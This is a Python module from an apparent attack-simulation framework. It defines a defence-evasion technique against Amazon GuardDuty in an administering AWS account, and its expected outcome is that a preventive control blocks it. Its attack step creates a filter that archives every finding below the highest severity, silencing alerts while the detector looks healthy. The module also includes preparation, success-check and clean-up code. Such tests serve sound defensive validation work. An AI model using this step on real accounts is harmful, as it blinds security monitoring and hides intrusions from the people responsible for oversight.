"""Archive GuardDuty's findings by a filter before anybody sees them.

The detector stays on and every check of it stays green. Played in the account that administers GuardDuty, because
members cannot make filters that count.
"""

from bastide.attack.stage import Stage
from bastide.attack.technique import NotPlayable, Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="GuardDuty's findings are suppressed by a filter",
    mitre=("T1562.001",),
    tactic="defense-evasion",
    detectors=("GuardDuty DefenseEvasion:IAMUser/AnomalousBehavior",),
    expected=Prevented("guardduty-protect"),
    where="audit",
    source='Amazon GuardDuty User Guide, "Suppression rules"',
)


def prepare(stage: Stage) -> Scene:
    """The detector of the account that administers GuardDuty."""
    account = stage.accounts["audit"]
    found = stage.owner(account).client("guardduty").list_detectors()["DetectorIds"]
    if not found:
        raise NotPlayable("the audit account has no GuardDuty detector")
    return {"account": account, "detector": found[0], "filter": stage.name("noise")}


def attack(stage: Stage, scene: Scene) -> None:
    """A filter that archives whatever is less than the highest severity."""
    stage.attacker(scene["account"]).client("guardduty").create_filter(
        DetectorId=scene["detector"],
        Name=scene["filter"],
        Action="ARCHIVE",
        FindingCriteria={"Criterion": {"severity": {"LessThan": 9}}},
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The detector lists the filter."""
    found = stage.owner(scene["account"]).client("guardduty").list_filters(DetectorId=scene["detector"])
    return scene["filter"] in found["FilterNames"]


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the filter."""
    if succeeded(stage, scene):
        stage.owner(scene["account"]).client("guardduty").delete_filter(
            DetectorId=scene["detector"], FilterName=scene["filter"]
        )
